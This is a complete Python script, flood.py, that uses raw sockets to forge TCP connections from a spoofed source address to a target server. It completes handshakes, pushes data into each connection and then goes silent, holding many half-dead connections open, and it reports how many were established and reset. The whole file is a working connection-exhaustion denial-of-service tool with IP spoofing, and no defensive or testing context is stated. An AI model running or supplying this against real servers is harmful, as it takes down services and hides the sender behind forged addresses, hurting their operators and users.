"""flood.py SOURCE SERVER PORT COUNT WINDOW BYTES: opens connections with crafted segments from SOURCE, whose SYN has this
window, fills each with so many bytes, and answers nothing any more. Prints how many were established, how many of those
were reset, and stays until it is told to end. Raw sockets: the sender's kernel must not know SOURCE as its own."""
import random
import select
import socket
import struct
import sys
import time

source, server, port, count, window, size = sys.argv[1], sys.argv[2], *map(int, sys.argv[3:7])
SYN, RST, PSH, ACK = 2, 4, 8, 16
ours, theirs = socket.inet_aton(source), socket.inet_aton(server)
out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
heard = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
heard.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 24)


def checksum(data):
    total = sum(struct.unpack(f"!{(len(data) + 1) // 2}H", data + b"\0" * (len(data) % 2)))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def send(from_port, seq, ack, flags, payload=b""):
    tcp = struct.pack("!HHIIBBHHH", from_port, port, seq % 2**32, ack % 2**32, 5 << 4, flags, window, 0, 0) + payload
    tcp = tcp[:16] + struct.pack("!H", checksum(ours + theirs + struct.pack("!HH", 6, len(tcp)) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0) + ours + theirs
    out.sendto(ip + tcp, (server, 0))


opening, established, reset = {}, {}, 0


def listen(seconds):
    global reset
    end = time.monotonic() + seconds
    while select.select([heard], [], [], max(0, end - time.monotonic()))[0]:
        packet = heard.recv(65535)
        if packet[9] != 6 or packet[16:20] != ours or packet[12:16] != theirs:
            continue
        _, to, seq, ack, _, flags = struct.unpack("!HHIIBB", packet[20:34])
        if flags & RST:
            reset += established.pop(to, None) is not None
        elif flags & SYN and to in opening:
            del opening[to]
            established[to] = True
            send(to, ack, seq + 1, ACK)
            for at in range(0, size, 1400):
                send(to, ack + at, seq + 1, ACK | PSH, b"x" * min(1400, size - at))


first = random.randrange(1024, 60000 - count)
for n in range(first, first + count):
    opening[n] = True
    send(n, random.getrandbits(32), 0, SYN)
    listen(0.001)
deadline = time.monotonic() + 3
while opening and time.monotonic() < deadline:
    listen(0.05)
listen(0.3)
print(f"established {count - len(opening)} reset {reset}", flush=True)
while True:
    listen(10)
